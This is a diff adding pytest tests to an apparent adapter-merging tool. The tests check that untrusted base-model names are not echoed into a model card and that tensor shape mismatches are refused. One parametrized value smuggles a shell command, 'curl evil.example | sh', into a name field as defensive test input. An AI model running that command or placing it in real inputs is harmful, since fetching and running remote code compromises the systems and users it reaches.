@@ -158,6 +158,42 @@ def test_without_a_base_they_are_compared_with_each_other(tmp_path: Path, one: P
     assert "has shape (32, 32) in spec.adapters[0]" in error.message
 
 
+@pytest.mark.parametrize("name", ["org/x; curl evil.example | sh #", "org/x\n# evil", "A" * 300, None])
+def test_what_a_stranger_calls_the_base_is_taken_as_a_plain_name_only(
+    tmp_path: Path, one: Path, name: str | None
+) -> None:
+    adapter = shutil.copytree(one, tmp_path / "named")
+    said = json.loads((adapter / CONFIG).read_text()) | {"base_model_name_or_path": name}
+    (adapter / CONFIG).write_text(json.dumps(said))
+    run_merge(merge(tmp_path, adapter))
+    assert not published(tmp_path).lineage.served_name
+    card = (tmp_path / "out" / "README.md").read_text()
+    assert not any(word in card for word in ("evil", "A" * 50))
+
+
+def test_a_base_that_one_of_ours_names_is_compared_with_the_others(
+    tmp_path: Path, made: list[Path], base: Path
+) -> None:
+    """Though they share no module, in which they could differ."""
+    ours = publish_ours(base, shutil.copytree(made[1], tmp_path / "work-ours"), tmp_path / "ours")
+    wide = save_tiny(tmp_path / "other", Tiny.LLAMA_TIED, hidden_size=64)
+    foreign = trained_adapter(wide, LoraConfig(r=4, target_modules=["up_proj"]), tmp_path / "wide", seed=1)
+    error = refusal(merge(tmp_path, foreign, ours))
+    assert error.reason is R.BASE_MISMATCH
+    assert "up_proj.lora_A.weight is 4 x 64, the base's up_proj takes 32" in error.message
+
+
+@pytest.mark.parametrize("into", ["Adapter", "Model"])
+def test_a_whole_tensor_has_the_shape_of_the_bases(tmp_path: Path, one: Path, base: Path, into: str) -> None:
+    adapter = shutil.copytree(one, tmp_path / "norm")
+    tensors = load_file(adapter / WEIGHTS)
+    tensors["base_model.model.model.norm.weight"] = torch.ones(7)
+    save_file(tensors, adapter / WEIGHTS, {"format": "pt"})
+    error = refusal(merge(tmp_path, adapter, into=into, model={"uri": base.as_uri()}))
+    assert error.reason is R.BASE_MISMATCH
+    assert "base_model.model.model.norm.weight is 7, the base's model.norm.weight is 32" in error.message
+
+
 def test_into_a_model_its_base_must_be_named(tmp_path: Path, one: Path) -> None:
     assert refusal(merge(tmp_path, one, into="Model")).message.startswith("spec.model: is required, ")
 
